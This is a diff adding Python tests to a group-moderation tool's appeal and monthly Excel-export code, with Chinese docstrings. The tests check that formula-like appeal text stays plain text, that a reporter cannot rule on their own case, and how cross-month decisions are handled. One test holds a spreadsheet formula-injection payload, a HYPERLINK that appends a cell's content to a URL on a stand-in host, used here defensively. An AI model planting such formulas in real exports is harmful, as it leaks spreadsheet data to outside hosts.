@@ -411,3 +411,103 @@ async def test_the_export_lists_the_months_appeals_with_their_outcomes(db, jgs, 
         "截图属实",
     )
     assert rows[2][9:] == ("驳回（维持）", "成员0002", "2026-11-27 10:00", "证据不足")
+
+
+async def test_an_appeal_written_like_a_formula_stays_text_in_the_export(db, jgs, tmp_path) -> None:
+    """成员写的申诉理由原样进人事的表：以“=”开头的不能变成会计算（会联网、会执行）的公式，
+    像“#N/A”的也不能变成错误值——人事看到的应是成员写的字。"""
+    from openpyxl import load_workbook
+
+    from qungui import export
+
+    formula = '=HYPERLINK("http://example.com/?"&C2,"点此查看截图")'
+    first, second = await entry(), await entry()
+    await appeals.file(
+        jgs,
+        entry_id=first.id,
+        user_id=MEMBER,
+        text=formula,
+        group_id=None,
+        at=NOW,
+        event_key="appeal:formula",
+    )
+    await appeals.file(
+        jgs,
+        entry_id=second.id,
+        user_id=MEMBER,
+        text="#N/A",
+        group_id=None,
+        at=NOW,
+        event_key="appeal:error",
+    )
+    path = await export.write(jgs, "2026-11", [], tmp_path / "out.xlsx")
+    sheet = load_workbook(path)[rules.REVIEW_APPEAL]
+    cells = [sheet.cell(row=row, column=9) for row in (2, 3)]
+    assert [(cell.value, cell.data_type) for cell in cells] == [(formula, "s"), ("#N/A", "s")]
+
+
+async def test_the_member_who_reported_the_message_does_not_decide_its_appeal(db, jgs) -> None:
+    """举报属实时举报人有奖励：被举报的人申诉那条警告，举报人（哪怕是管理员）不能来维持或撤销它。"""
+    from qungui import reviews
+    from qungui.content_filter import Hit
+
+    message = reviews.Message(
+        group_id=987654321, user_id=MEMBER, message_id=77, text="加V看百家乐", types="text", at=NOW
+    )
+    reported = await reviews.record(
+        jgs,
+        message,
+        Hit(rules.BUILTIN_REPORT, jgs.filter.report_category, "review", ""),
+        "report:77",
+        reporter_id=OTHER_ADMIN,
+        report_reason="赌博广告",
+    )
+    confirmed = await reviews.confirm(
+        jgs,
+        reported.id,
+        category=None,
+        amount=None,
+        note="",
+        by=ADMIN,
+        role=Role.ADMIN,
+        at=NOW,
+        today=date(2026, 11, 27),
+        event_key="confirm:77",
+    )
+    filed = await file(jgs, confirmed.issued.entry.id)
+    with pytest.raises(OwnCase):
+        await dismiss(jgs, filed.hit.id, OTHER_ADMIN, Role.ADMIN)
+    with pytest.raises(OwnCase):
+        await uphold(jgs, filed.hit.id, OTHER_ADMIN, Role.ADMIN)
+    assert (await FilterHit.get(id=filed.hit.id)).status == "pending"
+    done = await dismiss(jgs, filed.hit.id, CHAIRMAN, Role.CHAIRMAN)
+    assert done.hit.status == "dismissed"
+
+
+async def test_an_appeal_decided_next_month_shows_its_outcome_in_that_months_sheet(
+    db, jgs, tmp_path
+) -> None:
+    """11 月 30 日提出、12 月 2 日驳回的申诉：11 月的表导出时还是待审，结果要出现在 12 月的表里。"""
+    from openpyxl import load_workbook
+
+    from qungui import export
+
+    written = await entry(at=datetime(2026, 11, 29, 2, 0, tzinfo=UTC))
+    filed = await file(jgs, written.id, at=datetime(2026, 11, 30, 2, 0, tzinfo=UTC))
+    november = await export.write(jgs, "2026-11", [], tmp_path / "11.xlsx")
+    await appeals.dismiss(
+        jgs,
+        filed.hit.id,
+        note="证据不足",
+        by=OTHER_ADMIN,
+        role=Role.ADMIN,
+        at=datetime(2026, 12, 2, 2, 0, tzinfo=UTC),
+        event_key="decide:next-month",
+    )
+    december = await export.write(jgs, "2026-12", [], tmp_path / "12.xlsx")
+    rows = list(load_workbook(november)[rules.REVIEW_APPEAL].iter_rows(min_row=2, values_only=True))
+    assert [(row[0], row[9]) for row in rows] == [(f"审{filed.hit.id}", "待审")]
+    rows = list(load_workbook(december)[rules.REVIEW_APPEAL].iter_rows(min_row=2, values_only=True))
+    assert [(row[0], row[1], row[9], row[12]) for row in rows] == [
+        (f"审{filed.hit.id}", "2026-11-30 10:00", "驳回（维持）", "证据不足")
+    ]
